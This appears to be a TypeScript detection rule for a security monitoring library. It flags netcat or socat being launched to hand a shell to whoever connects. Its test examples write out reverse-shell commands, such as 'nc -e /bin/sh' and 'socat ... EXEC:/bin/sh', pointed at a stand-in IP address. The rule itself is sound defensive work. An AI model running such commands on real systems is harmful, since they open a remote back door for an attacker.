/** Netcat or socat that runs a program for whoever connects. */
import { defineDetection } from "@plimsoll/core";

export const netcatExec = defineDetection({
  id: "netcat-exec",
  title: "A network tool was started to run commands for others",
  severity: "critical",
  why: "Netcat and socat hand a program to whoever connects: a back door in one line.",
  techniques: ["T1059", "T1095"],
  equivalents: [
    "falco: Netcat Remote Code Execution in Container",
    "falco: Netcat/Socat Remote Code Execution on Host",
  ],
  closedBy: ["default-deny-egress"],
  kinds: ["exec"],
  when: "(name.matches('^(nc|ncat|netcat|nc\\\\.traditional|nc\\\\.openbsd)$') && line.matches('(^| )(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)( |=|$)')) || (name == 'socat' && line.matches('(?i)(exec|system|shell):'))",
  examples: {
    present: [
      {
        shows: ["falco: Netcat Remote Code Execution in Container"],
        detail: {
          kind: "exec",
          path: "/usr/bin/nc.traditional",
          args: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        },
      },
      { detail: { kind: "exec", path: "/usr/bin/ncat", args: ["ncat", "-lvp", "4444", "--sh-exec", "id"] } },
      {
        detail: {
          kind: "exec",
          path: "/usr/bin/socat",
          args: ["socat", "TCP:203.0.113.9:1", "EXEC:/bin/sh"],
        },
      },
    ],
    absent: [
      { detail: { kind: "exec", path: "/usr/bin/nc.openbsd", args: ["nc", "-z", "db", "5432"] } },
      {
        detail: {
          kind: "exec",
          path: "/usr/bin/socat",
          args: ["socat", "TCP-LISTEN:80,fork", "TCP:web:8080"],
        },
      },
    ],
  },
});
